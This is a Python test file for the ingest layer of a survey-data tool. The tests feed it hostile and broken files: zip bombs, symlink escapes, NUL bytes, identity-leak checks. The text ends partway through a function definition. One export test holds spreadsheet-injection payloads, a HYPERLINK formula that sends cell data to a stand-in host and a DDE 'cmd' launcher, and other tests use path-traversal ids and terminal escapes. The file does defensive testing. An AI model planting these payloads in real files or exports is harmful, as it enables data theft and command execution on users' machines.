"""Hostile and broken inputs, as an attacker or an unlucky user would hand them over.

Every case is a crafted file. The expected behaviour comes from the guarantees in
``mognad.io.readers`` / ``mognad.io.ingest`` (and docs/security-ingest.md), not from the code:
refused with one message naming file and row/line/cell, never showing a respondent identity, the
store unchanged, exit code 2 from the CLI without a traceback; or, where documented, accepted
with a warning.
"""

from __future__ import annotations

import builtins
import hashlib
import hmac
import json
import os
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest
from test_ingest import ITEMS, reject, snapshot, wide_rows

import mognad.io.readers as readers
from mognad.errors import MognadError, ValidationError
from mognad.io.ingest import ingest, normalise_ids
from mognad.io.store import open_study, read_key

EMAIL = "anna.berg@kommun.se"


@pytest.fixture()
def org_id(small_data) -> str:
    return pd.read_csv(small_data / "inputs" / "organisations.csv", dtype=str)["org_id"].iloc[0]


def assert_no_identity(text: str, *identities: str) -> None:
    low = text.casefold()
    for ident in identities or (EMAIL,):
        for part in {ident.casefold(), ident.casefold().split("@")[0]}:
            assert part not in low, f"identity {part!r} in message:\n{text}"


def expected_pseudonym(study_path, org: str, normal_id: str) -> str:
    """HMAC-SHA256(key, org \\x1f id) with Python's hmac over the hand-normalised id."""
    key = read_key(study_path)
    return hmac.new(key, f"{org}\x1f{normal_id}".encode(), hashlib.sha256).hexdigest()[:20]


# =============================================================================================
# 1. Identity normalisation
# =============================================================================================
NFD_ASA = unicodedata.normalize("NFD", "åsa.ek@kommun.se")
VARIANTS = [
    "Anna.Berg@Kommun.se",
    " anna.berg@kommun.se",
    "anna.berg@kommun.se\u00a0",  # non-breaking space (copied from a web page)
    "\u3000ANNA.BERG@KOMMUN.SE",  # full-width space (East Asian keyboards)
    "\u200banna.berg@kommun.se\ufeff",  # zero-width space, byte-order mark
    "\tAnna.berg@kommun.SE ",
]


def test_normalise_covers_every_unicode_space():
    # independent list: every character Python calls white space, plus the zero-width ones
    spaces = [chr(c) for c in range(sys.maxunicode + 1) if chr(c).isspace()]
    spaces += ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]
    ids = pd.Series([f"{c}{c}X@Y.se{c}" for c in spaces])
    assert normalise_ids(ids).tolist() == ["x@y.se"] * len(spaces)
    # NFD and NFC of the same text; German sharp s and Greek final sigma case-fold as Unicode says
    out = normalise_ids(pd.Series([NFD_ASA, "ÅSA.EK@KOMMUN.SE", "Straße@x.de", "STRASSE@X.DE"]))
    assert out.tolist() == ["\u00e5sa.ek@kommun.se", "\u00e5sa.ek@kommun.se",
                            "strasse@x.de", "strasse@x.de"]
    # already normal ids are unchanged (so pseudonyms of existing stores do not move)
    plain = pd.Series(["person1@example.se", "12345", "a.b-c_d@x.se"])
    assert normalise_ids(plain).tolist() == plain.tolist()
    assert normalise_ids(pd.Series([" \u00a0", None])).isna().all()


def test_identity_variants_in_one_file_are_one_respondent(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, len(VARIANTS) + 1)
    frame["respondent_id"] = [EMAIL, *VARIANTS]
    f = tmp_path / "svar.csv"
    frame.to_csv(f, index=False)
    message = reject(f, fresh_study, f"{len(VARIANTS)} problem(s)",
                     *[f"row {r}, column respondent_id: duplicate respondent"
                       for r in range(3, len(VARIANTS) + 3)],
                     "same person as in row 2")
    assert_no_identity(message)


def test_nfd_and_nfc_are_one_respondent(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 3)
    frame["respondent_id"] = [unicodedata.normalize("NFC", "åsa.ek@kommun.se"), "b@x.se", NFD_ASA]
    f = tmp_path / "svar.csv"
    frame.to_csv(f, index=False)
    message = reject(f, fresh_study, "row 4, column respondent_id", "same person as in row 2")
    assert_no_identity(message, "åsa.ek@kommun.se", NFD_ASA)


def test_identity_variants_get_one_pseudonym_across_rounds(fresh_study, tmp_path, org_id):
    rounds = range(2018, 2018 + len(VARIANTS))
    files = []
    for round_, variant in zip(rounds, VARIANTS, strict=True):
        frame = wide_rows(org_id, round_, 3)
        frame.loc[0, "respondent_id"] = variant
        frame.to_csv(tmp_path / f"r{round_}.csv", index=False)
        files.append(tmp_path / f"r{round_}.csv")
    nfd = wide_rows(org_id, 2030, 2)
    nfd.loc[0, "respondent_id"] = NFD_ASA
    nfd.to_csv(tmp_path / "nfd.csv", index=False)
    ingest([*files, tmp_path / "nfd.csv"], study=fresh_study)

    resp = open_study(fresh_study).responses.drop_duplicates(["round", "respondent_id"])
    anna = expected_pseudonym(fresh_study, org_id, EMAIL)
    per_round = resp.groupby("round")["respondent_id"].apply(set)
    assert all(anna in per_round[r] for r in rounds)
    assert (resp["respondent_id"] == anna).sum() == len(VARIANTS)
    assert expected_pseudonym(fresh_study, org_id, "\u00e5sa.ek@kommun.se") in per_round[2030]


def test_identity_variant_from_another_file_clashes_in_the_store(fresh_study, tmp_path, org_id):
    a = wide_rows(org_id, 2024, 3)
    a.loc[0, "respondent_id"] = EMAIL
    a.to_csv(tmp_path / "a.csv", index=False)
    ingest(tmp_path / "a.csv", study=fresh_study)
    b = wide_rows(org_id, 2024, 3, start=10, value=2)
    b.loc[1, "respondent_id"] = "\u00a0ANNA.Berg@kommun.se "
    b.to_csv(tmp_path / "b.csv", index=False)
    message = reject(tmp_path / "b.csv", fresh_study, "row 3, column respondent_id",
                     "already in the store")
    assert_no_identity(message)


# =============================================================================================
# 2. Identities never in messages
# =============================================================================================
def test_no_identity_in_long_format_messages(fresh_study, tmp_path, org_id):
    long = wide_rows(org_id, 2024, 2).melt(
        id_vars=["org_id", "round", "respondent_id", "unit", "role"], var_name="item_id",
        value_name="value")
    long["respondent_id"] = EMAIL
    f = tmp_path / "long.csv"
    long.to_csv(f, index=False)  # the same person twice: every item answered twice
    message = reject(f, fresh_study, "already answered this item in row")
    assert_no_identity(message)
    with pytest.raises(ValidationError) as info:
        ingest(f, study=fresh_study)
    assert all(p["value"] is None for p in info.value.problems)


def test_no_identity_when_the_header_row_is_missing(fresh_study, tmp_path, org_id):
    body = wide_rows(org_id, 2024, 3)
    body["respondent_id"] = [EMAIL, "bo.ek@kommun.se", "19800101-1234"]
    f = tmp_path / "utan_rubrik.csv"
    body.to_csv(f, index=False, header=False)  # row 1 is data: its cells look like column names
    message = reject(f, fresh_study, "cannot tell what kind of file",
                     "(a value that looks like an e-mail address)")
    assert_no_identity(message)


def test_no_identity_in_a_ragged_row_message(fresh_study, tmp_path, org_id):
    lines = wide_rows(org_id, 2024, 4).to_csv(index=False).splitlines()
    lines[3] = lines[3].replace("person2@example.se", EMAIL) + ",extra"
    f = tmp_path / "ragged.csv"
    f.write_text("\n".join(lines) + "\n")
    message = reject(f, fresh_study, "ragged.csv, row 4: 36 fields where the header has 35")
    assert_no_identity(message)


def test_no_identity_when_an_address_lands_in_an_item_column(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 3)
    frame.loc[1, "q04"] = EMAIL  # columns shifted by hand
    frame.loc[2, "respondent_id"] = ""  # required value missing
    f = tmp_path / "r.csv"
    frame.to_csv(f, index=False)
    message = reject(f, fresh_study, "row 3, column q04: value not shown (it looks like an "
                     "e-mail address)", "row 4, column respondent_id: a value is required")
    assert_no_identity(message)


# =============================================================================================
# 3. Silent loss and crashes
# =============================================================================================
def xlsx_from(frame: pd.DataFrame, path: Path, **extra_sheets) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Svar"
    ws.append(list(frame.columns))
    for row in frame.itertuples(index=False):
        ws.append([int(v) if isinstance(v, str) and v.isdigit() and len(v) == 1 else v
                   for v in row])
    for title, cells in extra_sheets.items():
        sheet = wb.create_sheet(title)
        for ref, value in cells.items():
            sheet[ref] = value
    wb.save(path)
    return path


def patch_sheet_xml(path: Path, old: str, new: str) -> None:
    """Rewrite the first sheet's XML (openpyxl cannot write cached formula values or errors)."""
    member = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(path) as zf:
        items = {i.filename: zf.read(i.filename) for i in zf.infolist()}
    xml = items[member].decode()
    assert old in xml, xml[:2000]
    items[member] = xml.replace(old, new, 1).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in items.items():
            zf.writestr(name, data)


def test_xlsx_formula_without_saved_value_is_refused(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 4)
    path = xlsx_from(frame, tmp_path / "svar.xlsx")
    wb = openpyxl.load_workbook(path)
    wb.active["J3"] = "=2+2"  # q05 of data row 2; openpyxl stores no calculated value
    wb.active["K5"] = "=SUM(F5:J5)"
    wb.save(path)
    reject(path, fresh_study, "svar.xlsx, sheet 'Svar', cell(s) J3, K5: a formula without a "
           "saved value", "save it again")


def test_xlsx_formula_with_saved_value_is_read(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 4)
    path = xlsx_from(frame, tmp_path / "svar.xlsx")
    wb = openpyxl.load_workbook(path)
    wb.active["J3"] = "=2+3"
    wb.save(path)
    patch_sheet_xml(path, '<c r="J3"><f>2+3</f><v /></c>', '<c r="J3"><f>2+3</f><v>5</v></c>')
    ingest(path, study=fresh_study)
    resp = open_study(fresh_study).responses
    q05 = resp[resp["item_id"] == "q05"]["value"].tolist()
    assert sorted(q05) == [4, 4, 4, 5]  # the saved value 5, not "don't know"


def test_xlsx_error_cell_is_refused(fresh_study, tmp_path, org_id):
    path = xlsx_from(wide_rows(org_id, 2024, 3), tmp_path / "svar.xlsx")
    patch_sheet_xml(path, '<c r="G4" t="n"><v>4</v></c>', '<c r="G4" t="e"><v>#N/A</v></c>')
    reject(path, fresh_study, "svar.xlsx, sheet 'Svar', cell G4: an Excel error value")


def test_xlsx_later_sheets_with_data_are_named_in_a_warning(fresh_study, tmp_path, org_id):
    path = xlsx_from(wide_rows(org_id, 2024, 3), tmp_path / "svar.xlsx",
                     Instruktioner={"B2": "Fyll i en rad per svarande"}, Blad3={})
    [res] = ingest(path, study=fresh_study)
    assert res.status == "added"
    assert len(res.warnings) == 1
    assert "'Instruktioner'" in res.warnings[0] and "NOT ingested" in res.warnings[0]
    assert "Blad3" not in res.warnings[0]  # an empty sheet loses nothing


def test_xlsx_rows_are_the_sheets_own_numbers(fresh_study, tmp_path, org_id):
    path = xlsx_from(wide_rows(org_id, 2024, 3), tmp_path / "svar.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb.active
    ws.insert_rows(3, amount=2)  # two blank rows between the first and second data row
    ws["H6"] = 9.5
    wb.save(path)
    reject(path, fresh_study, "svar.xlsx, row 6, column q03: value '9.5'")


def test_wide_file_missing_an_item_is_refused_unless_allowed(fresh_study, tmp_path, org_id):
    f = tmp_path / "r.csv"
    wide_rows(org_id, 2024, 4).drop(columns=["q17", "q18", "q30"]).to_csv(f, index=False)
    reject(f, fresh_study, "item column(s) q17–q18, q30 missing", "--allow-missing-items")
    [res] = ingest(f, study=fresh_study, allow_missing_items=True)
    assert res.status == "added"
    assert res.warnings and "q17–q18, q30" in res.warnings[0]
    resp = open_study(fresh_study).responses
    assert len(resp) == 4 * 27
    assert not resp["item_id"].isin(["q17", "q18", "q30"]).any()


def test_nul_byte_after_64_kib_is_refused(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 800)  # about 120 KB
    text = frame.to_csv(index=False)
    lines = text.splitlines(keepends=True)
    assert sum(map(len, lines[:700])) > 65536
    lines[700] = lines[700].replace("Kultur/Bibliotek", "Kultur\x00Bibliotek")
    f = tmp_path / "r.csv"
    f.write_text("".join(lines))
    reject(f, fresh_study, "r.csv, line 701: a NUL byte")


@pytest.mark.parametrize("byte", ["\x1b", "\x0c", "\x7f"])
def test_control_characters_are_refused(fresh_study, tmp_path, org_id, byte):
    frame = wide_rows(org_id, 2024, 3)
    frame.loc[1, "unit"] = f"Kultur{byte}[2J"  # a terminal escape sequence in a unit name
    f = tmp_path / "r.csv"
    f.write_text(frame.to_csv(index=False))
    reject(f, fresh_study, f"r.csv, line 3: control byte 0x{ord(byte):02X}")


def test_header_longer_than_64_kib_is_read(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 3)
    frame["kommentar_" + "x" * 70_000] = "ok"  # a header of about 70 KB
    f = tmp_path / "r.csv"
    frame.to_csv(f, index=False)
    assert len(f.read_bytes().split(b"\n", 1)[0]) > 65536
    assert ingest(f, study=fresh_study)[0].rows_added == 3


def test_quoted_line_break_across_byte_65536_is_read(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 600)
    lines = frame.to_csv(index=False).splitlines(keepends=True)
    # the first row whose end lies beyond byte 65,536 gets a unit with a line break in quotes
    ends = np.cumsum([len(x) for x in lines])
    k = int(np.argmax(ends > 65536))
    start = int(ends[k - 1])
    unit = "Kultur" + "x" * max(0, 65536 - start - 20) + "\nBibliotek"
    lines[k] = lines[k].replace("Kultur/Bibliotek", f'"{unit}"')
    data = "".join(lines).encode()
    newline_at = data.index(b"\nBibliotek")
    assert newline_at - 50 < 65536 < newline_at + 50  # the quoted value spans the boundary
    f = tmp_path / "r.csv"
    f.write_bytes(data)
    assert ingest(f, study=fresh_study)[0].rows_added == 600
    units = open_study(fresh_study).responses["unit"]
    assert (units == unit).sum() == 30  # one respondent x 30 items, line break kept


def test_line_longer_than_the_limit_is_refused(fresh_study, tmp_path, org_id):
    lines = wide_rows(org_id, 2024, 4).to_csv(index=False).splitlines()
    lines[2] = lines[2].replace("Kultur/Bibliotek", "K" * (readers.MAX_LINE_BYTES + 10))
    f = tmp_path / "r.csv"
    f.write_text("\n".join(lines) + "\n")
    reject(f, fresh_study, "r.csv, line 3: a line longer than 1 MB")
    g = tmp_path / "one_line.csv"
    g.write_bytes(b"org_id,round," + b"y" * (readers.MAX_LINE_BYTES * 3))
    reject(g, fresh_study, "one_line.csv, line 1: a line longer than 1 MB")


def test_unclosed_quote_is_refused_with_its_row(fresh_study, tmp_path, org_id):
    lines = wide_rows(org_id, 2024, 5).to_csv(index=False).splitlines()
    lines[3] = lines[3].replace("Kultur/Bibliotek", '"Kultur/Bibliotek')
    f = tmp_path / "r.csv"
    f.write_text("\n".join(lines) + "\n")
    reject(f, fresh_study, "r.csv, row 4")


def test_rows_count_as_a_spreadsheet_shows_them(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2024, 4)
    frame.loc[0, "unit"] = "Kultur\nBibliotek"  # quoted line break: still one row
    lines = frame.to_csv(index=False, sep=";").split("\n")
    # lines: 0 header, 1-2 data row 1 (two lines), 3 data row 2, 4 data row 3, 5 data row 4
    text = "\n".join([lines[0], lines[1], lines[2], "", lines[3], ";" * 34, "", lines[4],
                      lines[5].replace(";chef;4;", ";chef;7;", 1), ""])
    # spreadsheet rows: 1 header, 2 data (two text lines), 3 blank, 4 data, 5 ';;;;', 6 blank,
    # 7 data, 8 data with the bad value
    f = tmp_path / "r.csv"
    f.write_text(text)
    reject(f, fresh_study, "r.csv: rejected, 1 problem", "row 8, column q01: value '7'")
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(text.replace(";chef;7;", ";chef;4;"))
    assert ingest(fixed, study=fresh_study)[0].rows_added == 4  # blank rows hold nothing


def test_sav_rows_are_spss_case_numbers(fresh_study, tmp_path, org_id):
    frame = wide_rows(org_id, 2021, 4)
    numeric = frame.copy()
    numeric[ITEMS] = numeric[ITEMS].astype(float)
    numeric["round"] = 2021.0
    numeric.loc[2, "q09"] = 8.0  # case 3 in SPSS's Data View
    s = tmp_path / "r.sav"
    pyreadstat.write_sav(numeric, str(s))
    reject(s, fresh_study, "r.sav, row 3, column q09: value '8'")


@pytest.mark.parametrize(("text", "fragment"), [
    ("synthetic: [true\n", "dataset.yaml, line 2: not valid YAML"),
    ("- synthetic\n- true\n", "must be a mapping"),
    ('synthetic: "false"\n', "'synthetic' must be true or false"),
    ("synthetic: 1\n", "'synthetic' must be true or false"),
])
def test_invalid_dataset_yaml_is_refused(fresh_study, tmp_path, org_id, text, fragment):
    folder = tmp_path / "in"
    folder.mkdir()
    wide_rows(org_id, 2024, 3).to_csv(folder / "r.csv", index=False)
    (folder / "dataset.yaml").write_text(text)
    before = snapshot(fresh_study)
    with pytest.raises(ValidationError, match="dataset.yaml") as info:
        ingest(folder, study=fresh_study)
    assert fragment in str(info.value)
    assert snapshot(fresh_study) == before
    assert not open_study(fresh_study).is_synthetic


def test_dataset_yaml_booleans(fresh_study, tmp_path, org_id):
    folder = tmp_path / "in"
    folder.mkdir()
    wide_rows(org_id, 2024, 3).to_csv(folder / "r.csv", index=False)
    (folder / "dataset.yaml").write_text("name: Riktig studie\nsynthetic: false\n")
    ingest(folder, study=fresh_study)
    assert not open_study(fresh_study).is_synthetic


def test_unreadable_file_in_a_folder_is_refused_others_land(fresh_study, tmp_path, org_id,
                                                           monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    wide_rows(org_id, 2023, 3).to_csv(folder / "a.csv", index=False)
    wide_rows(org_id, 2024, 3).to_csv(folder / "b.csv", index=False)
    locked = folder / "b.csv"
    locked.chmod(0)
    if os.geteuid() == 0:  # root reads anything: make the reader see what a user would
        real_open = builtins.open

        def deny(file, *args, **kwargs):
            if Path(file) == locked:
                raise PermissionError(13, "Permission denied", str(file))
            return real_open(file, *args, **kwargs)

        monkeypatch.setattr(readers, "open", deny, raising=False)
    with pytest.raises(ValidationError, match=r"b.csv: cannot read the file \(permission denied"):
        ingest(folder, study=fresh_study)
    assert open_study(fresh_study).rounds == [2023]
    locked.chmod(0o644)


def test_empty_folder_is_an_error(fresh_study, tmp_path):
    folder = tmp_path / "tom"
    folder.mkdir()
    with pytest.raises(MognadError, match="no files to ingest"):
        ingest(folder, study=fresh_study)
    (folder / "LÄS MIG.md").write_text("inga data här\n")
    (folder / ".~lock.svar.csv#").write_text("x")
    with pytest.raises(MognadError, match="no files to ingest"):
        ingest(folder, study=fresh_study)


def test_size_limit_is_checked_before_reading(fresh_study, tmp_path, org_id):
    f = tmp_path / "r.csv"
    wide_rows(org_id, 2024, 50).to_csv(f, index=False)
    size = f.stat().st_size
    before = snapshot(fresh_study)
    with pytest.raises(ValidationError, match="r.csv: .* over the size limit .*--max-file-size"):
        ingest(f, study=fresh_study, max_file_bytes=size - 1)
    assert snapshot(fresh_study) == before
    assert ingest(f, study=fresh_study, max_file_bytes=size)[0].rows_added == 50  # at the limit


def test_size_limit_from_the_environment(fresh_study, tmp_path, org_id, monkeypatch):
    f = tmp_path / "r.csv"
    wide_rows(org_id, 2024, 50).to_csv(f, index=False)
    monkeypatch.setenv(readers.MAX_FILE_ENV, "0.001")  # 1,048 bytes
    reject(f, fresh_study, "r.csv:", "over the size limit of 1,048 bytes")
    monkeypatch.setenv(readers.MAX_FILE_ENV, "lots")
    with pytest.raises(MognadError, match="MOGNAD_MAX_FILE_MB='lots'"):
        ingest(f, study=fresh_study)


_MEMORY_CHILD = """
import resource, sys
import mognad.errors
from mognad.io.ingest import ingest
from mognad.io.store import init_study

study = init_study(sys.argv[1])
ingest(sys.argv[2], study=study)  # warm up every code path: imports, DuckDB, pyarrow
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for junk in sys.argv[3:]:
    try:
        ingest(junk, study=study)
        print("accepted?!")
    except mognad.errors.ValidationError as exc:
        print(str(exc).replace(chr(10), " "))
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) / 1024)
"""


def test_junk_is_refused_with_bounded_memory(tmp_path, small_data):
    """Junk of 32 MB is refused with a few MB of memory (the 1 GB case: docs/security-ingest.md).

    Four kinds: text lines that are no table, a table with a NUL byte at its very end, one
    endless line, a well-formed table of unknown organisations. The old reader held every byte several times over (7.5 GB for 1 GB); the
    bound here (16 MB for files twice that size) fails for anything that reads a file whole.
    """
    size = 32 << 20
    line = b"Lorem ipsum dolor sit amet, consectetur adipiscing elit; sed do eiusmod\n"
    (tmp_path / "text.csv").write_bytes(line * (size // len(line)))
    header = b"org_id,round,respondent_id," + b",".join(i.encode() for i in ITEMS) + b"\n"
    org = pd.read_csv(small_data / "inputs" / "organisations.csv", dtype=str)["org_id"].iloc[0]
    answers = b"," + b",".join([b"4"] * 30) + b"\n"
    row = f"{org},2024,p0000000".encode() + answers
    n_rows = size // len(row)
    with open(tmp_path / "nul.csv", "wb") as fh:  # valid rows (the first ones are checked)
        fh.write(header)
        fh.write(b"".join(f"{org},2024,p{i:07d}".encode() + answers for i in range(n_rows)))
        fh.write(b"\x00\n")
    (tmp_path / "line.csv").write_bytes(b"a," * (size // 2))
    with open(tmp_path / "table.csv", "wb") as fh:  # well-formed, but no such organisation
        fh.write(header)
        fh.write(b"9999,2024,p," + b",".join([b"4"] * 30) + b"\n")
        fh.write(row * (size // len(row)))
    names = ["text.csv", "nul.csv", "line.csv", "table.csv"]
    out = subprocess.run(
        [sys.executable, "-c", _MEMORY_CHILD, str(tmp_path / "s"),
         str(small_data / "inputs" / "organisations.csv"), *(str(tmp_path / n) for n in names)],
        capture_output=True, text=True, check=True)
    *messages, peak_mb = out.stdout.strip().splitlines()
    assert "text.csv, row 1: cannot tell what kind of file" in messages[0]
    nul_line = 1 + n_rows + 1  # header, the rows, then the NUL
    assert f"nul.csv, line {nul_line}: a NUL byte" in messages[1]
    assert "line.csv, line 1: a line longer than 1 MB" in messages[2]
    assert "table.csv: rejected" in messages[3] and "rows (the rest of the file was not read)" \
        in messages[3] and "row 2, column org_id: value '9999'" in messages[3]
    assert float(peak_mb) < 16, f"{peak_mb} MB extra peak memory for 32 MB files"


def test_utf16_text_gets_a_clear_message(fresh_study, tmp_path, org_id):
    f = tmp_path / "unicode.txt"
    f.write_bytes(wide_rows(org_id, 2024, 2).to_csv(index=False, sep="\t").encode("utf-16"))
    reject(f, fresh_study, "unicode.txt: the file is UTF-16", "CSV UTF-8")


def test_large_files_are_checked_on_their_first_rows_first(fresh_study, tmp_path, org_id,
                                                            monkeypatch):
    monkeypatch.setattr(readers, "PREVIEW_MIN_BYTES", 0)
    monkeypatch.setattr(readers, "PREVIEW_BYTES", 64 << 10)
    frame = wide_rows(org_id, 2024, 3000)  # about 450 KB
    frame.loc[3, "q02"] = "11"
    f = tmp_path / "r.csv"
    frame.to_csv(f, index=False)
    reject(f, fresh_study, "r.csv: rejected, 1 problem(s) in its first", "row 5, column q02",
           "(the rest of the file was not read)")
    frame.loc[3, "q02"] = "4"
    frame.loc[2900, "q02"] = "11"  # beyond the first rows: the whole file is read and refused
    frame.to_csv(f, index=False)
    message = reject(f, fresh_study, "r.csv: rejected, 1 problem(s); nothing", "row 2902")
    assert "first" not in message
    frame.loc[2900, "q02"] = "4"
    frame.to_csv(f, index=False)
    assert ingest(f, study=fresh_study)[0].rows_added == 3000
    # the same content again is "unchanged", although its first rows clash with the store
    frame.to_csv(tmp_path / "again.csv", index=False, sep=";")
    assert ingest(tmp_path / "again.csv", study=fresh_study)[0].status == "unchanged"


# =============================================================================================
# 4. Other holes an attacker would try
# =============================================================================================
def test_symlink_out_of_the_folder_is_refused(fresh_study, tmp_path, org_id):
    secret = tmp_path / "elsewhere" / "raw_answers.csv"
    secret.parent.mkdir()
    wide_rows(org_id, 2024, 3).to_csv(secret, index=False)
    folder = tmp_path / "handed_over"
    folder.mkdir()
    wide_rows(org_id, 2023, 3).to_csv(folder / "a.csv", index=False)
    (folder / "b.csv").symlink_to(secret)
    before = snapshot(fresh_study)
    with pytest.raises(MognadError, match="b.csv: a symbolic link to a file outside the folder"):
        ingest(folder, study=fresh_study)
    assert snapshot(fresh_study) == before
    (folder / "b.csv").unlink()
    (folder / "b.csv").symlink_to(folder / "a.csv")  # inside the folder: fine (and a duplicate)
    results = ingest(folder, study=fresh_study)
    assert [r.status for r in results] == ["added", "unchanged"]


def test_hidden_and_lock_files_in_a_folder_are_skipped(fresh_study, tmp_path, org_id):
    folder = tmp_path / "in"
    folder.mkdir()
    wide_rows(org_id, 2024, 3).to_csv(folder / "svar.csv", index=False)
    (folder / "._svar.csv").write_bytes(b"\x00\x05\x16\x07" + bytes(200))  # macOS AppleDouble
    (folder / "~$svar.xlsx").write_bytes(b"\x05owner")  # Excel's lock file
    assert [r.file for r in ingest(folder, study=fresh_study)] == ["svar.csv"]


def test_too_many_columns_are_refused(fresh_study, tmp_path):
    f = tmp_path / "wide.csv"
    f.write_text(",".join(f"c{i}" for i in range(readers.MAX_COLUMNS + 1)) + "\n"
                 + ",".join("1" for _ in range(readers.MAX_COLUMNS + 1)) + "\n")
    reject(f, fresh_study, "wide.csv, row 1: 2,001 columns; at most 2,000")


def test_duplicate_raw_column_names_are_refused(fresh_study, tmp_path, org_id):
    f = tmp_path / "r.csv"
    frame = wide_rows(org_id, 2024, 3)
    text = frame.to_csv(index=False).replace("unit,role", "unit,unit", 1)
    f.write_text(text)
    reject(f, fresh_study, "r.csv, row 1: column(s) unit appear twice")


def test_org_ids_that_could_escape_a_report_folder_are_refused(tmp_path):
    from mognad.io.store import init_study

    study = tmp_path / "s"
    init_study(study)
    f = tmp_path / "orgs.csv"
    pd.DataFrame({"org_id": ["../../etc/x", "..", "C:\\x", "ok_1", "y" * 65],
                  "name": ["A", "B", "C", "D", "E"], "org_type": ["kommun"] * 5}).to_csv(f,
                                                                                   index=False)
    reject(f, study, "4 problem(s)", "row 2, column org_id", "row 3, column org_id",
           "row 4, column org_id", "row 6, column org_id", "names report files")


def test_file_name_with_terminal_escapes_is_printed_safely(fresh_study, tmp_path):
    f = tmp_path / "svar\x1b[2J.csv"
    f.write_bytes(b"\x00binary")
    message = reject(f, fresh_study, "svar?[2J.csv: not a text table")
    assert "\x1b" not in message


def test_xlsx_that_unpacks_over_the_limit_is_refused(fresh_study, tmp_path, org_id):
    path = xlsx_from(wide_rows(org_id, 2024, 200), tmp_path / "bomb.xlsx")
    with zipfile.ZipFile(path) as zf:
        unpacked = sum(i.file_size for i in zf.infolist())
    limit = path.stat().st_size + 1  # the packed file is within the limit, the content is not
    assert unpacked > limit
    before = snapshot(fresh_study)
    with pytest.raises(ValidationError, match="bomb.xlsx: the workbook unpacks to"):
        ingest(path, study=fresh_study, max_file_bytes=limit)
    assert snapshot(fresh_study) == before


def test_formula_in_names_is_neutralised_in_exports(fresh_study, tmp_path, org_id):
    """Unit and role values that are formulas reach CSV/XLSX exports as inert text."""
    import csv

    from mognad.io.export import export_responses_wide, export_table

    frame = wide_rows(org_id, 2024, 3)
    frame["unit"] = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "+1+cmd|' /C calc'!A0",
                     "-2+3"]
    frame["role"] = ["@SUM(1+1)", "\t=1+1", "chef"]
    f = tmp_path / "r.csv"
    frame.to_csv(f, index=False)
    ingest(f, study=fresh_study)
    study = open_study(fresh_study)
    wide = export_responses_wide(study.responses, codebook=study.codebook)
    out = export_table(wide, tmp_path / "out.csv")
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    units = sorted(r["unit"] for r in rows)
    assert units == sorted(["'" + u for u in frame["unit"]])
    assert all(r["role"][0] not in "=+-@\t" for r in rows)
    xlsx = export_table(wide, tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(xlsx).worksheets[0]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    with zipfile.ZipFile(xlsx) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    units_xlsx = sorted(ws.cell(row=r, column=4).value for r in range(2, 5))
    assert units_xlsx == sorted(frame["unit"])  # exact text, no apostrophe needed in XLSX


# =============================================================================================
# 5. The command line: one message on stderr, exit code 2, never a traceback
# =============================================================================================
def run_cli(capsys, monkeypatch, *args) -> tuple[int, str, str]:
    """``mognad ARGS`` through the real entry point (mognad.cli.main), in this process."""
    from mognad import cli

    monkeypatch.setattr(sys, "argv", ["mognad", *map(str, args)])
    with pytest.raises(SystemExit) as info:
        cli.main()
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return info.value.code, out, err


def test_cli_errors_exit_2_with_one_message(fresh_study, tmp_path, org_id, capsys, monkeypatch):
    empty = tmp_path / "tom"
    empty.mkdir()
    code, _, err = run_cli(capsys, monkeypatch, "ingest", empty, "--study", fresh_study)
    assert code == 2 and err.startswith("error: ") and "no files to ingest" in err

    folder = tmp_path / "in"
    folder.mkdir()
    wide_rows(org_id, 2024, 3).to_csv(folder / "r.csv", index=False)
    (folder / "dataset.yaml").write_text('synthetic: "false"\n')
    code, _, err = run_cli(capsys, monkeypatch, "ingest", folder, "--study", fresh_study)
    assert code == 2 and "'synthetic' must be true or false" in err

    nul = tmp_path / "nul.csv"
    nul.write_bytes(wide_rows(org_id, 2024, 600).to_csv(index=False).encode() + b"\x00")
    code, _, err = run_cli(capsys, monkeypatch, "ingest", nul, "--study", fresh_study)
    assert code == 2 and "nul.csv: REJECTED" in err and "line 602: a NUL byte" in err

    big = tmp_path / "big.csv"
    wide_rows(org_id, 2024, 50).to_csv(big, index=False)
    code, _, err = run_cli(capsys, monkeypatch, "ingest", big, "--study", fresh_study,
                           "--max-file-size", "0.001")
    assert code == 2 and "over the size limit" in err
    code, _, err = run_cli(capsys, monkeypatch, "ingest", big, "--study", fresh_study,
                           "--max-file-size", "-3")
    assert code == 2 and "--max-file-size takes a positive number" in err

    dup = wide_rows(org_id, 2024, 3)
    dup["respondent_id"] = [EMAIL, "x@y.se", EMAIL.upper()]
    dup.to_csv(tmp_path / "dup.csv", index=False)
    code, _, err = run_cli(capsys, monkeypatch, "ingest", tmp_path / "dup.csv", "--study",
                           fresh_study)
    assert code == 2 and "row 4, column respondent_id" in err
    assert_no_identity(err)
    assert open_study(fresh_study).counts()["respondents"] == 0  # nothing of it all landed


def test_cli_missing_items_needs_the_option_and_warns(fresh_study, tmp_path, org_id, capsys,
